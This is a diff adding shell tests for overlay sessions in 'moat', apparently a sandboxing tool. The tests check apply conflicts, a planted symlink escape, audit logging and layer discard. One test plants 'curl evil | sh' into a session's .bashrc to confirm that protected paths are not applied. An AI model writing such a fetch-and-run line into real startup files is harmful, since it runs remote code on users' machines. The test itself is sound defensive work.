@@ -240,6 +240,85 @@ is "no layer is left" "$(kept)" ""
 run_moat audit prune --layers-max lots
 like "a bad size is named" "$err" "--layers-max needs a size"
 
+# An overlay session's layer: applied while the session runs, with the
+# checks of a run's apply, and more than once; discarded once it ended.
+mkdir -p "$T/ws5/sub" "$T/outside5" && cd "$T/ws5" || exit 1
+echo orig >a.txt; echo gone >gone.txt; echo keep >keep.txt; echo m >mode.sh
+echo s >sub/f; mkdir -p olddir/in && echo x >olddir/in/x
+cd - >/dev/null || exit 1
+WS5=$(cd "$T/ws5" && pwd -P)
+s5() { (cd "$T/ws5" && "$MOAT" "$@") >"$T/s5.out" 2>"$T/s5.err" </dev/null
+	rc=$?; out=$(cat "$T/s5.out"); err=$(cat "$T/s5.err"); }
+s5 session new -p "$P" --name rev5
+S5=${out%% *}
+is "an overlay session starts" "$rc" 0
+s5 session exec rev5 -- sh -c 'echo more >> a.txt; rm gone.txt; chmod 755 mode.sh
+	echo new > new.txt; ln -s /etc/passwd out-link; echo s2 >> keep.txt
+	echo s2 >> sub/f; rm -r olddir'
+is "its command changed the layer" "$rc" 0
+echo mine >"$T/ws5/keep.txt"
+s5 apply rev5
+is "apply SESSION with a host edit since it started: 125" "$rc" 125
+like "the conflicting path is named" "$err" "changed in $WS5 since session $S5 started.*
+  keep.txt"
+is "nothing was applied" "$(cat "$T/ws5/a.txt" "$T/ws5/keep.txt"; test -e "$T/ws5/gone.txt" && echo gone-there)" "orig
+mine
+gone-there"
+mv "$T/ws5/sub" "$T/ws5/sub.real" && ln -s "$T/outside5" "$T/ws5/sub"
+s5 apply "$S5" sub/f
+is "apply SESSION through a planted symlink: 125" "$rc" 125
+like "it says a link is on the way" "$err" "sub: a symbolic link"
+check "nothing was written outside the workspace" test -z "$(ls -A "$T/outside5")"
+rm "$T/ws5/sub" && mv "$T/ws5/sub.real" "$T/ws5/sub"
+UP5="$XDG_STATE_HOME/moat/runs/$(cd "$T/ws5" && "$MOAT" diff --json rev5 | sed -n 's/.*"run_id": "\([^"]*\)".*/\1/p')/upper"
+echo 'curl evil | sh' >"$UP5/.bashrc"
+s5 apply rev5 a.txt gone.txt mode.sh new.txt out-link olddir sub .bashrc
+is "apply SESSION PATH... by name (the session's name)" "$rc" 0
+like "it says what it applied" "$out" "session $S5: 7 changes applied to $WS5"
+like "a protected path is not applied" "$err" "not applied \\(protected\\)  .bashrc"
+check "and not written" test ! -e "$T/ws5/.bashrc"
+is "modified, deleted and added files match the layer" \
+    "$(cat "$T/ws5/a.txt" "$T/ws5/new.txt" "$T/ws5/sub/f"; test -e "$T/ws5/gone.txt" || echo no-gone; test -e "$T/ws5/olddir" || echo no-olddir)" "orig
+more
+new
+s
+s2
+no-gone
+no-olddir"
+is "a mode is kept, a symlink stays one" "$(stat -c %a "$T/ws5/mode.sh") $(readlink "$T/ws5/out-link")" "755 /etc/passwd"
+is "the conflicting file is still mine" "$(cat "$T/ws5/keep.txt")" mine
+s5 session exec rev5 -- sh -c 'cat a.txt; echo again >> a.txt'
+is "the session goes on, on its layer" "$out" "orig
+more"
+s5 apply rev5 a.txt
+is "a path applied before and changed again in the session: no conflict with moat's own apply" "$rc $(cat "$T/ws5/a.txt")" "0 orig
+more
+again"
+sleep 0.01; echo host >>"$T/ws5/a.txt"
+s5 session exec rev5 -- sh -c 'echo third >> a.txt'
+s5 apply rev5 a.txt
+is "but a host edit after that apply is a conflict again" "$rc $(tail -1 "$T/ws5/a.txt")" "125 host"
+s5 audit list --session "$S5"
+like "each apply is a row of the session in the audit log" "$out" "moat apply $S5 a.txt gone.txt"
+n=$(python3 -c 'import sqlite3,sys; c=sqlite3.connect(sys.argv[1]); print(c.execute("SELECT count(*) FROM events e JOIN runs r ON r.id = e.run WHERE r.session = ? AND r.command LIKE ? AND e.kind = ?", (sys.argv[2], "moat apply %", "file")).fetchone()[0])' "$MOAT_DB" "$S5")
+is "with a file event per applied path" "$n" 8
+s5 discard rev5
+is "discard of a running session: 125" "$rc" 125
+like "it says to end the session first" "$err" "session $S5 is running on its layer; end it first \\(moat session kill $S5\\)"
+check "its layer is still there" test -d "$UP5"
+s5 audit prune --layers-max 1K
+check "a prune to a cap leaves a running session's layer" test -d "$UP5"
+s5 session kill rev5
+s5 diff rev5 --name-only
+is "an ended session's layer is reviewed by its name (the protected path stays)" "$rc $out" "0 .bashrc
+a.txt
+keep.txt"
+s5 discard rev5
+is "discard of an ended session" "$rc $out" "0 session $S5: layer discarded"
+check "its layer is gone" test ! -e "$UP5"
+s5 diff "$S5"
+like "then there is nothing to review, and moat says so" "$err" "no session $S5"
+
 # --review on a terminal: a question per path.
 if command -v script >/dev/null; then
 	mkdir -p "$T/ws3" && echo a >"$T/ws3/a.txt"
